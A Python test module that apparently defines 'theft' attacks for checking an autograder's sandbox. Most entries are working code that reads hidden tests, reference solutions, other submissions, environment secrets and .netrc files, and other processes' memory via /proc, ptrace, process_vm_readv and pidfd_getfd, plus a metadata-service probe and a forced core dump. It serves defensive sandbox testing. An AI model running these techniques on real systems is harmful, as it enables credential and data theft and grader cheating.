# ruff: noqa: E501 — attacks are as whoever makes them writes them
"""Group C: theft. What is found is printed and given back; the planted markers must not be in it."""

from __future__ import annotations

from textwrap import dedent

from hostile.attack import SAME_USER, Attack, Gain

__all__ = ["ATTACKS"]

_TAIL = """

LOOT = ""
def look():
    global LOOT
    try:
        LOOT = str(steal())
    except BaseException as error:
        LOOT = type(error).__name__
look()
def convert(x):
    print(LOOT[:60_000])
    return LOOT[:200_000]
"""
_ADDRESS_SPACE = "at `strict` another namespace of processes, at `standard` seccomp and Landlock; below, " + SAME_USER


def _theft(number: int, name: str, goal: str, body: str, **more: object) -> Attack:
    fields = {
        "shows": "a planted marker in what it printed or gave back",
        "aims": (Gain.SECRET,),
        "stopped_from": "standard",
        "because": SAME_USER,
        **more,
    }
    if fields["stopped_from"] == "none":
        fields["because"] = ""
    return Attack(number=number, name=name, goal=goal, source=dedent(body).strip() + _TAIL, **fields)  # type: ignore[arg-type]


def _syscall(number: int, name: str, goal: str, body: str) -> Attack:
    return _theft(
        number,
        name,
        goal,
        f"""
import ctypes, os, platform, signal, struct
C = ctypes.CDLL(None, use_errno=True)
C.syscall.restype = ctypes.c_long
C.ptrace.restype = ctypes.c_long
ARM = platform.machine() == "aarch64"
{dedent(body).strip()}
""",
        because=_ADDRESS_SPACE,
    )


ATTACKS = (
    _theft(
        39,
        "hidden-tests",
        "read the specification and the seed",
        """
        def steal():
            return [open("@COURSE@/" + name).read() for name in ("exercises/convert.yaml", "course.yaml")]
        """,
    ),
    _theft(
        40,
        "reference-import",
        "import the reference solution and hand it in",
        """
        import sys
        sys.path.insert(0, "@COURSE@/solutions")
        def steal():
            import convert
            return open(convert.__file__).read()
        """,
    ),
    _theft(
        40,
        "reference-by-name",
        "the same with what is on the path already",
        """
        import importlib, inspect
        def steal():
            found = []
            for name in ("convert", "solutions.convert", "solution", "reference"):
                try:
                    found.append(inspect.getsource(importlib.import_module(name)))
                except (ImportError, OSError, TypeError):
                    pass
            return found
        """,
        stopped_from="none",
        unlike="the control has no reference to import",
    ),
    _theft(
        41,
        "other-submissions",
        "read what friends handed in",
        """
        import glob
        def steal():
            return [open(name).read() for name in glob.glob("@OTHERS@/*")]
        """,
    ),
    _theft(
        42,
        "environment",
        "read the grader's environment, which processes inherit",
        """
        import os
        def steal():
            return dict(os.environ), open("/proc/self/environ").read()
        """,
        stopped_from="none",
    ),
    _theft(
        42,
        "environment-in-c",
        "the same where C keeps it",
        """
        import ctypes
        def steal():
            environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
            return [value for _, value in zip(range(500), iter(environ.__getitem__, None)) if value] if False else [
                environ[i] for i in range(next(n for n in range(10_000) if environ[n] is None))
            ]
        """,
        stopped_from="none",
    ),
    _theft(
        43,
        "own-argv",
        "read secrets in the arguments that it was started with",
        """
        import sys
        def steal():
            found = [sys.argv, sys.orig_argv]
            try:
                found.append(open("/proc/self/cmdline").read())
            except OSError:
                pass
            return found
        """,
        stopped_from="none",
    ),
    _theft(
        44,
        "environment-of-others",
        "read the environment and the arguments of every process",
        """
        import glob
        def steal():
            found = []
            for name in ["/proc/@WITNESS@/environ", "/proc/@WITNESS@/cmdline", *glob.glob("/proc/[0-9]*/environ")]:
                try:
                    found.append(open(name, "rb").read().decode(errors="replace"))
                except OSError:
                    pass
            return [text for text in found if "marker-" in text]
        """,
    ),
    _theft(
        45,
        "memory-of-others",
        "read another process's memory through /proc",
        """
        import os
        def steal():
            with open("/proc/@WITNESS@/mem", "rb", 0) as memory:
                return os.pread(memory.fileno(), 64, @ADDRESS@)
        """,
    ),
    _theft(
        45,
        "folders-of-others",
        "go through another process's root, folder and descriptors",
        """
        import os
        def steal():
            found = []
            for link in ("/proc/@WITNESS@/fd/77", "/proc/@WITNESS@/root@HOME@/.netrc", "/proc/@WITNESS@/cwd/../@HOME@/.netrc"):
                try:
                    found.append(open(link).read())
                except OSError:
                    pass
            return found
        """,
    ),
    _syscall(
        46,
        "ptrace",
        "attach to another process and read its memory",
        """
        def steal():
            if C.ptrace(16, @WITNESS@, None, None) < 0:  # PTRACE_ATTACH
                return "no"
            os.waitpid(@WITNESS@, 0x40000000)
            words = [C.ptrace(1, @WITNESS@, ctypes.c_void_p(@ADDRESS@ + 8 * i), None) for i in range(6)]
            C.ptrace(17, @WITNESS@, None, None)
            return struct.pack("6q", *words)
        """,
    ),
    _syscall(
        47,
        "process-vm-readv",
        "read another process's memory at once",
        """
        class Piece(ctypes.Structure):
            _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))
        def steal():
            room = ctypes.create_string_buffer(64)
            ours, theirs = Piece(ctypes.addressof(room), 64), Piece(@ADDRESS@, 64)
            C.process_vm_readv(@WITNESS@, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
            return room.raw
        """,
    ),
    _syscall(
        48,
        "pidfd-getfd",
        "take a descriptor out of another process",
        """
        def steal():
            handle = C.syscall(434, @WITNESS@, 0)
            taken = C.syscall(438, handle, 77, 0)
            return os.pread(taken, 64, 0)
        """,
    ),
    _theft(
        49,
        "remnants",
        "search its own memory for what the process that forked it once held",
        r"""
        import re
        def steal():
            found = set()
            with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
                for line in maps:
                    places, rights, *_, name = (line.split(maxsplit=5) + [""])[:6]
                    start, end = (int(place, 16) for place in places.split("-"))
                    if "w" not in rights or end - start > 64 << 20 or name.strip().startswith("/"):
                        continue
                    try:
                        memory.seek(start)
                        found.update(re.findall(rb"marker-(?:seed|title|test|reference|inherited|friend)-[0-9a-f]{16}", memory.read(end - start)))
                    except (OSError, ValueError):
                        pass
            return found
        """,
        stopped_from="none",
    ),
    _theft(
        49,
        "remnants-among-objects",
        "search all objects and constants for answers and names",
        r"""
        import gc, re, sys
        def steal():
            found = set()
            for thing in gc.get_objects():
                for part in gc.get_referents(thing):
                    if type(part) in (str, bytes):
                        text = part if type(part) is str else part.decode(errors="replace")
                        found.update(re.findall(r"marker-[a-z]+-[0-9a-f]{16}", text))
                    elif type(part) is float and 40517 < part < 40518:
                        found.add(part)
            return found
        """,
        stopped_from="none",
        unlike="what the control knows is in arrays; A13 and A14 take it from there",
    ),
    _theft(
        50,
        "repository",
        "read what a checkout leaves about: .git, caches, the source of the grader",
        """
        def steal():
            return open("@COURSE@/.git/config").read()
        """,
    ),
    _syscall(
        51,
        "shared-memory",
        "attach to a segment that another process left open",
        """
        C.shmat.restype = ctypes.c_void_p
        def steal():
            number = C.shmget(@SHM_KEY@, 0, 0)
            if number < 0:
                return "no"
            address = C.shmat(number, None, 0o10000)
            return ctypes.string_at(address, 64)
        """,
    ),
    _theft(
        52,
        "metadata-service",
        "ask the service that gives credentials to every machine of a cloud (here on the loopback)",
        """
        import socket
        def steal():
            with socket.create_connection(("127.0.0.1", @PORT@), timeout=0.3) as connection:
                return connection.recv(100)
        """,
    ),
    _theft(
        52,
        "abstract-socket",
        "connect to a socket that is in no folder",
        """
        import socket
        def steal():
            with socket.socket(socket.AF_UNIX) as connection:
                connection.settimeout(0.3)
                connection.connect("\\0@SOCKET@")
                return connection.recv(100)
        """,
    ),
    Attack(
        number=54,
        name="core-dump",
        goal="have the memory of the process written to a file",
        shows="a file called core",
        aims=(Gain.FILE, Gain.VERDICT),
        outcomes=("crashed",),
        unlike="the control may write no cores either: they would fill the disk",
        source="""
import os
def convert(x):
    try:
        import resource
        resource.setrlimit(resource.RLIMIT_CORE, (-1, -1))
        os.chdir("@OUTSIDE@")
    except (ValueError, OSError):
        pass
    os.abort()
""",
        stopped_from="standard",
        because="root may raise its own limits, and " + SAME_USER,
    ),
)
